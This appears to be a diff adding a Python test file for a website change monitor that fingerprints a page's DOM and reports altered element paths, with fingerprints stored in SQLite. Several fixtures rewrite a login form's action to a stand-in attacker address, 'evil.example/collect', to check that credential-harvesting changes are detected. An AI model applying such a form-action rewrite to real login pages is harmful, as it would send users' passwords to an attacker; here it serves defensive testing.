@@ -0,0 +1,72 @@
+#!/usr/bin/env python3
+# -*- coding: utf-8 -*-
+"""
+DOM 구조 지문 테스트
+변경된 요소 경로만 보고하는지, 지문이 스냅샷별로 저장/재사용되는지 확인
+"""
+
+import os
+import sqlite3
+
+import database
+import dom_fingerprint
+from database import setup_database
+from compare_snapshots import find_structural_changes
+from dom_fingerprint import decode, diff, encode, fingerprint
+from retention import compact
+from saver import insert_snapshot
+
+TEST_PAGES_DIR = os.path.join(os.path.dirname(os.path.dirname(os.path.abspath(__file__))), "test_pages")
+URL = "https://mmbr.kyobobook.co.kr/login"
+
+OLD = """<html><head><title>로그인</title><script src="/a.js"></script><script>var a = 1;</script></head>
+<body><form action="/login" method="post"><input name="id"><input type="password" name="pw"></form>
+<ul><li>공지 1<li>공지 2</ul></body></html>"""
+
+def read_page(name):
+    with open(os.path.join(TEST_PAGES_DIR, name), "r", encoding="utf-8") as f:
+        return f.read()
+
+def test_diff_reports_changed_paths():
+    new = (OLD.replace('action="/login"', 'action="https://evil.example/collect"')
+              .replace("var a = 1;", "var a = 2;")
+              .replace("<li>공지 2", "<li>공지 2<li>공지 3"))
+    changes = diff(fingerprint(OLD), fingerprint(new))
+    assert {(c["path"], c["kind"]) for c in changes} == {
+        ("html > head > script[2]", "text"),
+        ("html > body > form[action]", "attr"),
+        ("html > body > ul > li[3]", "added"),
+    }
+    assert diff(fingerprint(OLD), fingerprint(OLD)) == []
+
+def test_diff_on_test_pages_finds_only_changed_elements():
+    original = fingerprint(read_page("original.html"))
+    changes = diff(original, fingerprint(read_page("url_modified.html")))
+    assert changes and all(c["kind"] == "attr" and c["path"].endswith("[src]") for c in changes)
+    assert decode(encode(original)) == original
+
+def test_structural_changes_ignore_volatile_tokens():
+    old = OLD.replace('src="/a.js"', 'src="/a.js?t=1712345678"').replace("var a = 1;", 'var TNK_SR = "0123456789abcdef0123456789abcdef";')
+    new = old.replace("1712345678", "1799999999").replace("0123456789abcdef0123456789abcdef", "fedcba9876543210fedcba9876543210")
+    # 정규화하지 않으면 캐시 무효화 파라미터/토큰 변경이 구조 변경으로 보임
+    assert diff(fingerprint(old), fingerprint(new))
+    assert find_structural_changes(old, new, URL) == ""
+    assert "form[action]" in find_structural_changes(old, new.replace('action="/login"', 'action="https://evil.example/"'), URL)
+
+def test_fingerprint_stored_once(tmp_path, monkeypatch):
+    monkeypatch.setattr(database, "DATABASE_PATH", str(tmp_path / "dom.db"))
+    setup_database()
+    tree = fingerprint(OLD)
+    with database.get_connection() as conn:
+        insert_snapshot(conn, URL, "h1", OLD, len(OLD), True, "최초", fingerprint=tree)
+        insert_snapshot(conn, URL, "h1", OLD, len(OLD), False, "변경 없음", fingerprint=tree)
+        assert dom_fingerprint.load_fingerprint(conn, tree[0]) == tree
+    with sqlite3.connect(database.DATABASE_PATH) as conn:
+        assert conn.execute("SELECT COUNT(*) FROM dom_fingerprints").fetchone()[0] == 1
+        assert conn.execute("SELECT COUNT(DISTINCT dom_hash) FROM snapshots").fetchone()[0] == 1
+
+    # 참조하는 스냅샷이 없어진 지문은 정리 대상
+    with sqlite3.connect(database.DATABASE_PATH) as conn:
+        conn.execute("UPDATE snapshots SET dom_hash = NULL")
+        conn.execute("UPDATE latest_snapshots SET dom_hash = NULL")
+    assert compact()["fingerprints_deleted"] == 1